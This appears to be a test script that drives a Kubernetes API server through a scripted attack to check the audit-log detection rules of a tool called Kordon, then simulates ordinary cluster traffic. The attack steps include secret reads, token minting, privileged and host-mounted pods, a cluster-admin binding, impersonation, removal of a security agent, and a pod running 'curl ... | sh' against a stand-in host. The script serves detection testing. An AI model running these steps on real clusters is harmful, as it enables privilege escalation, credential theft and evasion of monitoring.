"""Makes the calls that Kordon's rules on the audit log are about, and those of a cluster's ordinary life.

    audit_calls.py APISERVER TOKENS CANARY        prints {"calls": N, "rules": [...]}

TOKENS is a folder with a file per user. Who is called what stands in audit.sh.
"""

import base64
import http.client
import json
import ssl
import sys
import time
import urllib.parse

address = urllib.parse.urlsplit(sys.argv[1])
tokens, canary = sys.argv[2], sys.argv[3]
unverified = ssl._create_unverified_context()
calls = 0


def connect():
    """A machine with much else to do resets one now and then; nothing has been asked yet."""
    for attempt in range(5):
        connection = http.client.HTTPSConnection(address.hostname, address.port, context=unverified, timeout=20)
        try:
            connection.connect()
            return connection
        except ConnectionError:
            time.sleep(0.2)
    raise SystemExit(f"no connection to {address.netloc}")


def call(user, method, path, body=None, kind="application/json", headers=None, expected=(200, 201, 202)):
    global calls
    calls += 1
    connection = connect()
    who = "the pod" if user and user.count(".") == 2 else user
    given = {"Content-Type": kind, "Accept": "application/json", "User-Agent": "kubectl/v1.36.3", **(headers or {})}
    if user:
        token = user if user.count(".") == 2 else open(f"{tokens}/{user}").read().strip()
        given["Authorization"] = "Bearer " + token
    connection.request(method, path, json.dumps(body) if body is not None else None, given)
    response = connection.getresponse()
    text = response.read() if response.status != 101 else b""
    connection.close()
    if expected and response.status not in expected:
        raise SystemExit(f"{method} {path} as {who}: {response.status} {text[:500]}")
    return json.loads(text) if text[:1] == b"{" else {}


def core(namespace, resource=""):
    return f"/api/v1/namespaces/{namespace}/{resource}"


def pod(name, **spec):
    container = {"name": "app", "image": "busybox", **spec.pop("container", {})}
    return {"metadata": {"name": name}, "spec": {"containers": [container], **spec}}


def upgrade(path):
    """Asks for a stream, as kubectl exec did before it spoke WebSocket; the kubelet behind is a stand-in."""
    headers = {"Connection": "Upgrade", "Upgrade": "SPDY/3.1", "X-Stream-Protocol-Version": "v4.channel.k8s.io"}
    call("alice", "POST", path, headers=headers, expected=(101,))


def prepare():
    for namespace in ("shop", "falco"):
        call("alice", "POST", "/api/v1/namespaces", {"metadata": {"name": namespace}})
    for name, rules in (("prober", []), ("reader", [{"apiGroups": [""], "resources": ["secrets"], "verbs": ["list"]}])):
        call("alice", "POST", core("shop", "serviceaccounts"), {"metadata": {"name": name}})
        call("alice", "POST", core("shop", "pods"), pod(name, serviceAccountName=name, nodeName="node-1"))
        role = {"metadata": {"name": name}, "rules": rules}
        call("alice", "POST", "/apis/rbac.authorization.k8s.io/v1/namespaces/shop/roles", role)
        binding = {
            "metadata": {"name": name},
            "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": name},
            "subjects": [{"kind": "ServiceAccount", "name": name, "namespace": "shop"}],
        }
        call("alice", "POST", "/apis/rbac.authorization.k8s.io/v1/namespaces/shop/rolebindings", binding)


def bound(name):
    """The token of a pod, as its kubelet gets it."""
    uid = call("alice", "GET", core("shop", f"pods/{name}"))["metadata"]["uid"]
    request = {"spec": {"boundObjectRef": {"kind": "Pod", "apiVersion": "v1", "name": name, "uid": uid}}}
    return call("kubelet", "POST", core("shop", f"serviceaccounts/{name}/token"), request)["status"]["token"]


def attack():
    """One call or more for each rule; the names of the rules, in order."""
    rbac, done = "/apis/rbac.authorization.k8s.io/v1/", []

    def rule(*names):
        done.extend(names)

    # secrets, with what must not be seen in what is put into them
    secret = {"metadata": {"name": "db"}, "stringData": {"password": canary}, "type": "Opaque"}
    call("alice", "POST", core("shop", "secrets"), secret)
    patch = {"data": {"other": base64.b64encode((canary + "-patched").encode()).decode()}}
    call("alice", "PATCH", core("shop", "secrets/db"), patch, "application/merge-patch+json")
    call("alice", "POST", core("shop", "configmaps"), {"metadata": {"name": "c"}, "data": {"password": canary}})
    call("alice", "GET", core("shop", "secrets/db"))
    rule("secret_read")
    call("alice", "GET", core("shop", "secrets"))
    rule("secrets_listed")
    call("alice", "GET", "/api/v1/secrets")
    rule("all_secrets_listed")
    call("alice", "POST", core("shop", "serviceaccounts/reader/token"), {"spec": {"expirationSeconds": 3600}})
    rule("service_account_token_created")
    call("alice", "POST", "/apis/authentication.k8s.io/v1/tokenreviews", {"spec": {"token": canary}})

    # with the tokens of pods
    call(bound("reader"), "GET", core("shop", "secrets"))
    rule("pod_token_used_for_discovery")
    call(bound("prober"), "GET", core("shop", "pods"), expected=(403,))
    rule("pod_token_forbidden")

    # sessions
    upgrade(core("shop", "pods/reader/exec?command=id&container=app&stdout=true"))
    rule("pod_exec")
    upgrade(core("shop", "pods/reader/attach?container=app&stdout=true"))
    rule("pod_attach")
    upgrade(core("shop", "pods/reader/portforward"))
    rule("pod_port_forward")
    debug = {"spec": {"ephemeralContainers": [{"name": "debug", "image": "busybox"}]}}
    strategic = "application/strategic-merge-patch+json"
    call("alice", "PATCH", core("shop", "pods/reader/ephemeralcontainers"), debug, strategic)
    rule("ephemeral_container_added")

    # workloads
    privileged = pod("privileged", container={"securityContext": {"privileged": True}})
    call("alice", "POST", core("shop", "pods"), privileged)
    rule("privileged_pod_started", "privileged_workload_created")
    template = {"metadata": {"labels": {"app": "d"}}, "spec": pod("d")["spec"]}
    template["spec"]["volumes"] = [{"name": "host", "hostPath": {"path": "/etc/kubernetes"}}]
    deployment = {"metadata": {"name": "d"}, "spec": {"selector": {"matchLabels": {"app": "d"}}, "template": template}}
    call("alice", "POST", "/apis/apps/v1/namespaces/shop/deployments", deployment)
    rule("sensitive_host_path_mounted")
    call("alice", "POST", core("shop", "pods"), pod("hostnet", hostNetwork=True))
    rule("host_network_workload_created")
    call("alice", "POST", core("kube-system", "pods"), pod("coredns-89bb8c5c7"))
    rule("workload_created_in_kube_system")
    command = {"command": ["sh", "-c", "curl -s http://198.51.100.7/x | sh"]}
    call("alice", "POST", core("shop", "pods"), pod("attack", container=command))
    rule("workload_with_attack_command")
    job = {"metadata": {"labels": {"app": "d"}}, "spec": {**pod("d")["spec"], "restartPolicy": "Never"}}
    cron = {"metadata": {"name": "c"}, "spec": {"schedule": "* * * * *", "jobTemplate": {"spec": {"template": job}}}}
    call("alice", "POST", "/apis/batch/v1/namespaces/shop/cronjobs", cron)
    rule("cronjob_written")

    # rights
    admin = {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"}
    subject = {"kind": "User", "name": "mallory", "apiGroup": "rbac.authorization.k8s.io"}
    call("alice", "POST", rbac + "clusterrolebindings", {"metadata": {"name": "m"}, "roleRef": admin, "subjects": [subject]})
    rule("cluster_admin_granted")
    all_of_it = [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}]
    call("alice", "POST", rbac + "clusterroles", {"metadata": {"name": "m"}, "rules": all_of_it})
    rule("powerful_role_written")
    impersonate = {"Impersonate-User": "alice", "Impersonate-Group": "system:masters"}
    call("alice", "GET", core("shop", "pods"), headers=impersonate)
    rule("privileged_identity_impersonated")
    request = open(f"{tokens}/request.csr", "rb").read()
    csr = {
        "metadata": {"name": "m"},
        "spec": {
            "request": base64.b64encode(request).decode(),
            "signerName": "example.org/any",
            "usages": ["client auth"],
        },
    }
    made = call("alice", "POST", "/apis/certificates.k8s.io/v1/certificatesigningrequests", csr)
    made["status"] = {"conditions": [{"type": "Approved", "status": "True", "reason": "x", "message": "x"}]}
    call("alice", "PUT", "/apis/certificates.k8s.io/v1/certificatesigningrequests/m/approval", made)
    rule("certificate_request_approved")

    # traces, guards, ways to stay
    happened = {
        "metadata": {"name": "e"},
        "involvedObject": {"kind": "Pod", "namespace": "shop", "name": "reader"},
        "reason": "x",
        "message": "x",
        "type": "Normal",
    }
    call("alice", "POST", core("shop", "events"), happened)
    call("alice", "DELETE", core("shop", "events/e"))
    rule("kubernetes_events_deleted")
    agent = {"metadata": {"labels": {"app": "d"}}, "spec": pod("d")["spec"]}
    daemonset = {"metadata": {"name": "falco"}, "spec": {"selector": {"matchLabels": {"app": "d"}}, "template": agent}}
    call("alice", "POST", "/apis/apps/v1/namespaces/falco/daemonsets", daemonset)
    call("alice", "DELETE", "/apis/apps/v1/namespaces/falco/daemonsets/falco")
    rule("security_agent_removed")
    hooks = "/apis/admissionregistration.k8s.io/v1/validatingwebhookconfigurations"
    call("alice", "POST", hooks, {"metadata": {"name": "m"}, "webhooks": []})
    rule("admission_control_changed")
    call("alice", "POST", core("kube-system", "configmaps"), {"metadata": {"name": "coredns"}, "data": {"Corefile": ". {}"}})
    rule("cluster_dns_changed")

    # nobody
    call(None, "GET", core("shop", "configmaps"), expected=(403,))
    rule("anonymous_api_refused")
    everybody = [{"kind": "User", "name": "system:anonymous", "apiGroup": "rbac.authorization.k8s.io"}]
    open_role = {**admin, "name": "m"}
    binding = {"metadata": {"name": "open"}, "roleRef": open_role, "subjects": everybody}
    call("alice", "POST", rbac + "clusterrolebindings", binding)
    for _ in range(50):  # the API server takes a moment to know of it
        if call(None, "GET", core("shop", "configmaps"), expected=(200, 403)).get("kind") != "Status":
            break
        time.sleep(0.1)
    rule("anonymous_api_access")
    return done


def ordinary(minutes):
    """What a node, the control plane and an operator ask of the API server, in about the proportions of a small cluster."""
    lease = "/apis/coordination.k8s.io/v1/namespaces/kube-node-lease/leases"
    node = {"metadata": {"name": "node-1"}}
    merge = "application/merge-patch+json"
    held = call("kubelet", "POST", lease, {"metadata": {"name": "node-1"}, "spec": {"holderIdentity": "node-1"}})
    operator = {"metadata": {"name": "operator-state"}, "data": {"x": "0"}}
    call("operator", "POST", core("shop", "configmaps"), operator)
    for minute in range(minutes):
        for _ in range(6):  # the kubelet renews its lease every ten seconds
            held = call("kubelet", "PUT", lease + "/node-1", held)
        call("kubelet", "PATCH", "/api/v1/nodes/node-1/status", {"status": {"phase": "Running"}}, merge)
        for name in ("reader", "prober"):
            call("kubelet", "PATCH", core("shop", f"pods/{name}/status"), {"status": {"message": str(minute)}}, merge)
        for resource in ("configmaps/c", "secrets/db", "pods/reader"):
            call("kubelet", "GET", core("shop", resource), expected=None)
        bound("reader")
        for number in range(3):
            happened = {
                "metadata": {"name": f"pulled-{minute}-{number}"},
                "involvedObject": {"kind": "Pod", "namespace": "shop", "name": "reader"},
                "reason": "Pulled",
                "type": "Normal",
            }
            call("kubelet", "POST", core("shop", "events"), happened)
        for resource in ("pods", "services", "endpoints", "configmaps"):
            call("controller", "GET", f"/api/v1/{resource}?watch=true&timeoutSeconds=1")
        for _ in range(30):  # leaders say every two seconds that they are
            call("controller", "GET", lease + "/node-1")
        call("controller", "GET", "/apis/apps/v1/deployments")
        call("controller", "PATCH", "/apis/apps/v1/namespaces/shop/deployments/d/status", {"status": {}}, merge, expected=None)
        for _ in range(4):
            attributes = {"verb": "get", "resource": "pods", "namespace": "shop"}
            review = {"spec": {"user": "alice", "resourceAttributes": attributes}}
            call("operator", "POST", "/apis/authorization.k8s.io/v1/subjectaccessreviews", review)
        for path in ("/api", "/apis", "/apis/apps/v1", "/healthz", "/openapi/v3"):
            call("operator", "GET", path)
        call("operator", "GET", core("shop", "pods?watch=true&timeoutSeconds=1"))
        call("operator", "GET", core("shop", "deployments"), expected=None)
        call("operator", "GET", core("shop", "configmaps/operator-state"))
        change = {"data": {"x": str(minute)}}
        call("operator", "PATCH", core("shop", "configmaps/operator-state"), change, merge)


prepare()
names = attack()
before = calls
ordinary(int(sys.argv[4]) if len(sys.argv) > 4 else 3)
print(json.dumps({"rules": names, "attack": before, "ordinary": calls - before}))
